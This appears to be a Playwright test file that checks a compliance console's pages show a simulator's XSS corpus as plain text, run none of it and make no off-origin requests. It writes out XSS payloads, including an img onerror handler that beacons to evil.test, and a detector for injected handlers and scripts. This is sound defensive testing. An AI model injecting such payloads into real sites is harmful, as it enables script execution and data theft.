import type { Page } from "@playwright/test";
import type { Fixtures } from "@/lib/simulator/dataset/fixtures";
import { HOSTILE_GROUP_NAME } from "@/lib/simulator/dataset/hostile";
import { expect, test } from "./support/fixtures";
import { seedSession, SESSION_COOKIE, stackInfo, type Persona } from "./support/stack";

/**
 * The simulator puts an XSS corpus in every field the console renders (lib/simulator/dataset/hostile.ts);
 * every payload sets window.__xss or calls a beacon on evil.test or evil.example. Each page that shows
 * those fields must show the hostile text as text, run none of it and send nothing off the app's origin.
 */

/**
 * Sent as the user agent of a Compliance API call made with another key: the feed then records it in
 * the call's `compliance_api_accessed` activity, which the Activity page shows.
 */
/** The simulator's Admin API key (design.md): not one of Docket's, as another integration's key would be. */
const OTHER_KEY = "sk-ant-admin01-simulator";
const HOSTILE_USER_AGENT = `<img src=x onerror="window.__xss=1;navigator.sendBeacon('https://evil.test/ua')">`;

/** Typed by an auditor into the audit filter: the audit log then records it among a row's parameters. */
const AUDIT_FILTER_PROBE = "<script>window.__xss=1</script><img src=x onerror=window.__xss=1>";

interface HostilePage {
  title: string;
  persona: Persona;
  path: (fixtures: Fixtures) => string;
  /** Corpus text the page must show, so that a page rendering nothing fails too. */
  shows: (fixtures: Fixtures) => string[];
  /** Puts the hostile text where the page will read it, before the page opens. */
  prepare?: () => Promise<void>;
  /** Brings every hostile field on screen (checking each part while it is mounted) and returns the text read. */
  read?: (page: Page, fixtures: Fixtures, appOrigin: string) => Promise<string>;
  /** The page shows the hostile text only once a background job has run: the test gets the time a slow test gets. */
  waitsForWorker?: boolean;
}

const HOSTILE_PAGES: HostilePage[] = [
  {
    title: "custodians of the hostile user's organisation, filtered by their name",
    persona: "reviewer",
    path: ({ hostileCorpus: { user } }) => `/custodians?org=${user.organizationUuid}&q=${encodeURIComponent(user.fullName)}`,
    shows: ({ hostileCorpus: { user, organization } }) => [user.fullName, user.email, organization.name],
  },
  {
    title: "custodians of the organisation with a hostile name",
    persona: "reviewer",
    path: ({ hostileCorpus: { organization } }) => `/custodians?org=${organization.uuid}`,
    shows: ({ hostileCorpus: { organization } }) => [organization.name],
  },
  {
    title: "chats of the hostile user",
    persona: "reviewer",
    path: ({ hostileUser }) => `/chats?users=${hostileUser}`,
    shows: ({ hostileCorpus: { chat, user } }) => [chat.name, user.email],
  },
  {
    title: "every chat of the hostile user's organisation",
    persona: "reviewer",
    path: ({ hostileCorpus: { user } }) => `/chats?org=${user.organizationUuid}&limit=200`,
    shows: ({ hostileCorpus: { chat, user } }) => [chat.name, user.email],
  },
  {
    title: "the hostile chat, every message with its raw JSON open",
    persona: "reviewer",
    path: ({ hostileChat }) => `/chats/${hostileChat}`,
    shows: ({ hostileCorpus: { chat, user, snippets } }) => [
      chat.name,
      user.email,
      ...snippets,
      chat.connector.integration,
      chat.connector.url,
      ...chat.attachmentNames,
    ],
    read: readEveryMessage,
  },
  {
    title: "a session whose transcript quotes the corpus, every message with its raw JSON open",
    persona: "reviewer",
    path: ({ hostileSession }) => `/sessions/local/${hostileSession.id}`,
    shows: ({ hostileSession }) => hostileSession.snippets,
    read: (page, { hostileSession }, appOrigin) => readTranscript(page, hostileSession.messageCount, appOrigin),
  },
  {
    title: "projects created by the hostile user",
    persona: "reviewer",
    path: ({ hostileUser, hostileCorpus: { user } }) => `/projects?org=${user.organizationUuid}&owners=${hostileUser}`,
    shows: ({ hostileCorpus: { project, user } }) => [project.name, user.email],
  },
  {
    title: "the hostile project: description, instructions, attachments, collaborators and chats",
    persona: "reviewer",
    path: ({ hostileProject }) => `/projects/${hostileProject}`,
    shows: ({ hostileCorpus: { project, user, chat } }) => [
      project.name,
      project.description,
      project.instructions,
      ...project.attachmentNames,
      user.email,
      chat.name,
    ],
    read: async (page) => {
      await expect(page.getByRole("region", { name: "Chats" }).locator("tbody tr").first()).toBeVisible();
      return page.locator("main").innerText();
    },
  },
  {
    title: "the Activity Feed, after a Compliance API call with a hostile user agent, its JSON open",
    persona: "auditor",
    prepare: callWithHostileUserAgent,
    path: () => `/activity?types=compliance_api_accessed&from=${new Date(Date.now() - 10 * 60_000).toISOString()}`,
    shows: () => [HOSTILE_USER_AGENT],
    read: async (page, _fixtures, appOrigin) => {
      const row = page.getByRole("region", { name: "Activities" }).locator("tbody tr", { hasText: HOSTILE_USER_AGENT });
      await row.getByText("JSON as sent by the API").click();
      await expect(row.locator("pre")).toContainText(HOSTILE_USER_AGENT.replace(/"/g, '\\"'));
      expect(await activeContent(page, appOrigin)).toEqual([]);
      return page.locator("main").innerText();
    },
  },
  {
    title: "Docket's API use, once the feed holding that call has been read",
    persona: "auditor",
    waitsForWorker: true,
    prepare: callWithHostileUserAgent,
    path: () => "/api-usage",
    shows: () => [HOSTILE_USER_AGENT],
    read: async (page, _fixtures, appOrigin) => {
      await page.getByRole("button", { name: "Read the feed now" }).click();
      const otherKeys = page.getByRole("region", { name: "Calls by other keys" });
      // The worker first reads the feed since its last run: late in the suite, thousands of calls.
      await expect
        .poll(
          async () => {
            await page.reload();
            await expect(page.getByRole("region", { name: "Reconciliation" })).toBeVisible();
            return otherKeys.getByText(HOSTILE_USER_AGENT, { exact: false }).count();
          },
          { timeout: 60_000 },
        )
        .toBeGreaterThan(0);
      expect(await activeContent(page, appOrigin)).toEqual([]);
      return page.locator("main").innerText();
    },
  },
  {
    title: "a Claude Code artifact version whose HTML carries the corpus, shown as its source",
    persona: "reviewer",
    path: ({ codeArtifactHostile: { id, versionId } }) => `/code-artifacts/${id}/versions/${versionId}`,
    shows: ({ hostileCorpus: { snippets } }) => snippets.slice(0, 2),
    read: async (page, _fixtures, appOrigin) => {
      await expect(page.getByRole("region", { name: "Source" })).toBeVisible();
      expect(await activeContent(page, appOrigin)).toEqual([]);
      return page.locator("main").innerText();
    },
  },
  {
    title: "the code artifacts list and the hostile artifact's page, its JSON open",
    persona: "reviewer",
    path: ({ codeArtifactHostile: { id } }) => `/code-artifacts/${id}`,
    shows: ({ codeArtifactHostile: { id } }) => [id],
    read: async (page, _fixtures, appOrigin) => {
      await page.getByText("Raw JSON as listed").click();
      await expect(page.locator("pre[data-raw-json]")).toBeVisible();
      expect(await activeContent(page, appOrigin)).toEqual([]);
      await page.goto("/code-artifacts");
      await expect(page.getByRole("region", { name: "Code artifacts" }).locator("tbody tr").first()).toBeVisible();
      expect(await activeContent(page, appOrigin)).toEqual([]);
      return page.locator("main").innerText();
    },
  },
  {
    title: "the directory: a group with a hostile name, its members open",
    persona: "reviewer",
    path: ({ hostileCorpus: { user } }) => `/directory?org=${user.organizationUuid}`,
    shows: () => [HOSTILE_GROUP_NAME],
    read: async (page, _fixtures, appOrigin) => {
      const group = page.getByRole("region", { name: "Groups" }).locator("details", { hasText: HOSTILE_GROUP_NAME });
      await group.locator("summary").click();
      await expect(group.locator("li").first()).toBeVisible();
      expect(await activeContent(page, appOrigin)).toEqual([]);
      return page.locator("main").innerText();
    },
  },
  {
    title: "the audit log, after a view filtered by hostile text",
    persona: "auditor",
    path: () => `/audit?actor=${encodeURIComponent(AUDIT_FILTER_PROBE)}`,
    shows: () => [AUDIT_FILTER_PROBE],
    read: readAuditLogAfterFilteredView,
  },
];

let fixtures: Fixtures;

async function callWithHostileUserAgent(): Promise<void> {
  const response = await fetch(`${stackInfo().apiBaseUrl}/v1/compliance/activities?limit=1`, {
    headers: { "x-api-key": OTHER_KEY, "user-agent": HOSTILE_USER_AGENT },
  });
  expect(response.status).toBe(200);
}

test.beforeAll(async () => {
  const response = await fetch(`${stackInfo().apiBaseUrl}/_simulator/fixtures`);
  expect(response.status).toBe(200);
  fixtures = (await response.json()) as Fixtures;
});

for (const hostilePage of HOSTILE_PAGES) {
  test(`${hostilePage.title}: shows the corpus as text, runs none of it, requests nothing off the origin`, async ({ page, context, baseURL }) => {
    if (hostilePage.waitsForWorker) test.slow();
    const appOrigin = new URL(baseURL!).origin;
    const { token } = await seedSession(hostilePage.persona);
    await context.addCookies([{ name: SESSION_COOKIE, value: token, url: baseURL!, httpOnly: true, sameSite: "Lax" }]);
    const dialogs: string[] = [];
    const foreignRequests: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      if (new URL(request.url()).origin !== appOrigin) foreignRequests.push(request.url());
    });

    await hostilePage.prepare?.();
    const expectedTexts = hostilePage.shows(fixtures);
    await page.goto(hostilePage.path(fixtures));
    const text = hostilePage.read ? await hostilePage.read(page, fixtures, appOrigin) : await readMain(page, ...expectedTexts);

    expect(await page.evaluate(() => "__xss" in window)).toBe(false);
    expect(dialogs).toEqual([]);
    expect(foreignRequests).toEqual([]);
    expect(await activeContent(page, appOrigin)).toEqual([]);
    for (const expected of expectedTexts) expect(collapseSpace(text)).toContain(collapseSpace(expected));
  });
}

/** The main region's rendered text, once every piece of data loaded client-side has arrived (lists and the organisation switcher load apart). */
async function readMain(page: Page, ...expectedTexts: string[]): Promise<string> {
  const main = page.locator("main");
  for (const expected of expectedTexts) await expect(main).toContainText(expected, { useInnerText: true });
  return main.innerText();
}

/** The thread is virtualised: each row is read (raw JSON open) and checked while it is mounted. */
function readEveryMessage(page: Page, { hostileCorpus }: Fixtures, appOrigin: string): Promise<string> {
  return readTranscript(page, hostileCorpus.chat.messageCount, appOrigin);
}

/** Brings each of a transcript's `messageCount` messages on screen with its raw JSON open, checking the page each time. */
async function readTranscript(page: Page, messageCount: number, appOrigin: string): Promise<string> {
  // Visible first: a thread streamed after the page's shell waits hidden until React reveals it, and a
  // hidden count already has its text.
  await expect(page.getByTestId("loaded-count")).toBeVisible();
  await expect(page.getByTestId("loaded-count")).toHaveText(String(messageCount));
  const texts = [await page.locator("main").innerText()];
  for (let index = 0; index < messageCount; index++) {
    const row = page.locator(`[data-index="${index}"]`);
    await row.scrollIntoViewIfNeeded();
    const rawJson = row.getByRole("button", { name: "Raw JSON" });
    await rawJson.click();
    await expect(rawJson).toHaveAttribute("aria-expanded", "true");
    expect(await activeContent(page, appOrigin)).toEqual([]);
    texts.push(await row.innerText());
  }
  return texts.join("\n");
}

async function readAuditLogAfterFilteredView(page: Page, _fixtures: Fixtures, appOrigin: string): Promise<string> {
  // The filtered view has been read (and so recorded) once its empty result shows.
  await expect(page.getByText("No event matches these filters.")).toBeVisible();
  expect(await activeContent(page, appOrigin)).toEqual([]);
  await page.goto("/audit");
  return readMain(page, AUDIT_FILTER_PROBE);
}

function collapseSpace(text: string): string {
  return text.replace(/\s+/g, " ").trim();
}

/** What the page holds that could run, load or navigate on behalf of chat content, described for the failure message. */
function activeContent(page: Page, appOrigin: string): Promise<string[]> {
  return page.evaluate((origin) => {
    const found: string[] = [];
    const describe = (element: Element) => element.outerHTML.slice(0, 160);
    const isOffOrigin = (url: string) => new URL(url, document.baseURI).origin !== origin;
    for (const element of document.querySelectorAll("*")) {
      for (const attribute of element.attributes) if (/^on/i.test(attribute.name)) found.push(`event handler: ${describe(element)}`);
    }
    for (const element of document.querySelectorAll("iframe, frame, object, embed, base, meta[http-equiv]"))
      found.push(`foreign element: ${describe(element)}`);
    for (const element of document.querySelectorAll("[href], [action], [formaction]")) {
      for (const name of ["href", "action", "formaction"]) {
        const value = element.getAttribute(name);
        if (value === null) continue;
        const url = new URL(value, document.baseURI);
        if (["javascript:", "data:", "vbscript:"].includes(url.protocol)) found.push(`${url.protocol} ${name}: ${describe(element)}`);
        if (element.tagName === "LINK" && isOffOrigin(value)) found.push(`off-origin link: ${describe(element)}`);
      }
    }
    for (const element of document.querySelectorAll("[src], [poster]")) {
      const sources = ["src", "poster"].map((name) => element.getAttribute(name)).filter((value): value is string => value !== null);
      if (sources.some(isOffOrigin)) found.push(`off-origin source: ${describe(element)}`);
    }
    for (const element of document.querySelectorAll("[srcset]")) found.push(`srcset, which the console never sets: ${describe(element)}`);
    // Next's own scripts sit directly in <head> or <body>: files under /_next/, or its flight data, which
    // may quote content (escaped, inside a JavaScript string).
    for (const script of document.scripts) {
      const isTopLevel = script.parentElement === document.head || script.parentElement === document.body;
      const isNextFile = script.src !== "" && !isOffOrigin(script.src) && new URL(script.src).pathname.startsWith("/_next/");
      const isNextFlightData = script.src === "" && /^\(?self\.__next_f/.test(script.text);
      const quotesCorpus = /__xss|evil\./.test(script.text);
      if (!isTopLevel || (script.src !== "" && !isNextFile) || (!isNextFlightData && quotesCorpus)) found.push(`script from content: ${describe(script)}`);
    }
    return found;
  }, appOrigin);
}
